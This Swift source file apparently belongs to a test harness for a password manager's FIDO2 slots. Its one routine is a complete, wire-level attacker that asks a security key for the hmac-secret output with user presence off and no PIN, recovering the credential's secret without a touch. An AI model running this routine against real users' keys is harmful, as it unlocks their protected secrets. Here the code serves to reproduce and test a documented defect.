/// The attacker of a FIDO2 slot (issue 45, defect 8): another program of the same user, with
/// nothing but a slot's header (relying party, credential id, hmac-secret salt, all readable
/// from the keyring) and the plugged key. It asks the key for hmac-secret in an assertion with
/// user presence off and no PIN, as any CTAP 2.1 platform may (`fido2-assert -G -h` without
/// `-p` sends the same request): no touch is asked, and the key answers with the credential's
/// output *without* user verification (CredRandomWithoutUV).
///
/// Written against the wire, not through SiteKeep's code: its own key agreement (PIN/UV auth
/// protocol two, or one), its own salt encryption, its own decryption of the answer.
extension SoftFIDO2Control {
    /// The hmac-secret output for `salt` (32 bytes) of `credentialID` at `rpID`, asked with
    /// `up` false and no pinUvAuthParam, over two connections (getKeyAgreement, getAssertion).
    /// - Throws: ``ControlError`` when the key refuses or answers something unexpected.
    public func silentHMACSecret(rpID: String, credentialID: [UInt8], salt: [UInt8], pinProtocol: Int = 2) throws -> [UInt8] {
        guard salt.count == 32, let protocolVersion = PINProtocol(rawValue: pinProtocol) else {
            throw ControlError(description: "a 32-byte salt and PIN/UV auth protocol 1 or 2")
        }
        // authenticatorClientPIN getKeyAgreement: the key's ECDH public key.
        let agreement = try cbor(0x06, .map([.init(.int(1), .int(pinProtocol)), .init(.int(2), .int(2))]))
        guard let keyCOSE = agreement[int: 1], let x = keyCOSE[int: -2]?.bytesValue, let y = keyCOSE[int: -3]?.bytesValue else {
            throw ControlError(description: "no key agreement key in the answer")
        }
        let platform = P256Key()
        guard let z = platform.ecdh(peerX: x, y: y) else { throw ControlError(description: "the key's agreement key is not on the curve") }
        let shared = protocolVersion.kdf(z)
        guard let saltEnc = protocolVersion.encrypt(shared, salt) else { throw ControlError(description: "salt encryption failed") }
        let hmacSecret = CBOR.map([
            .init(.int(1), platform.coseKey(alg: -25)),
            .init(.int(2), .bytes(saltEnc)),
            .init(.int(3), .bytes(protocolVersion.authenticate(shared, saltEnc))),
            .init(.int(4), .int(pinProtocol)),
        ])
        // authenticatorGetAssertion: allow list of the one credential, up false, no PIN.
        let answer = try cbor(0x02, .map([
            .init(.int(1), .text(rpID)),
            .init(.int(2), .bytes(SoftCrypto.random(32))),
            .init(.int(3), .array([.map([.init(.text("id"), .bytes(credentialID)), .init(.text("type"), .text("public-key"))])])),
            .init(.int(4), .map([.init(.text("hmac-secret"), hmacSecret)])),
            .init(.int(5), .map([.init(.text("up"), .bool(false))])),
        ]))
        guard let authData = answer[int: 2]?.bytesValue, authData.count > 37, authData[32] & 0x80 != 0 else {
            throw ControlError(description: "the assertion carries no extension output")
        }
        let extensions = try CBOR.decode(Array(authData[37...]))
        guard let encrypted = extensions[text: "hmac-secret"]?.bytesValue,
              let output = protocolVersion.decrypt(shared, encrypted), output.count == 32 else {
            throw ControlError(description: "no 32-byte hmac-secret output in the assertion")
        }
        return output
    }

    /// One authenticatorX command on its own connection: the decoded answer, or the CTAP status.
    func cbor(_ command: UInt8, _ parameters: CBOR) throws -> CBOR {
        let reply = try exchange(SoftFIDO2Wire.cbor, [command] + parameters.encoded)
        guard let status = reply.first else { throw ControlError(description: "an empty answer") }
        guard status == 0 else { throw ControlError(description: "the key answered CTAP status 0x\(String(status, radix: 16))") }
        return try CBOR.decode(Array(reply.dropFirst()))
    }
}
